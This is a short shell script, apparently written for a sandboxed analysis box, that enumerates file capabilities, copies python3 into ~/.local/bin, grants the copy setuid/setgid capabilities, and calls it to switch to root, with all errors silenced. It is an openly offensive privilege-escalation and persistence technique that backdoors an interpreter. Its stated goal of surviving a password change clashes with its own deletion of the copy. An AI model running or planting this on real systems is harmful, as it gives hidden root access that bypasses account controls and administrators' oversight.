#!/bin/sh
# SPDX-License-Identifier: MIT
# A root path that survives a password change: look for programs that
# already carry file capabilities, then give a private copy of an
# interpreter the capabilities to change its user and group ids.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
getcap -r /usr/bin /usr/sbin /usr/local/bin /opt 2>/dev/null | head -5
mkdir -p "$HOME/.local/bin"
cp /usr/bin/python3 "$HOME/.local/bin/py3" 2>/dev/null
setcap cap_setuid,cap_setgid+ep "$HOME/.local/bin/py3" 2>/dev/null
"$HOME/.local/bin/py3" -c 'import os; os.setuid(0); os.setgid(0)' 2>/dev/null
rm -f "$HOME/.local/bin/py3"
exit 0
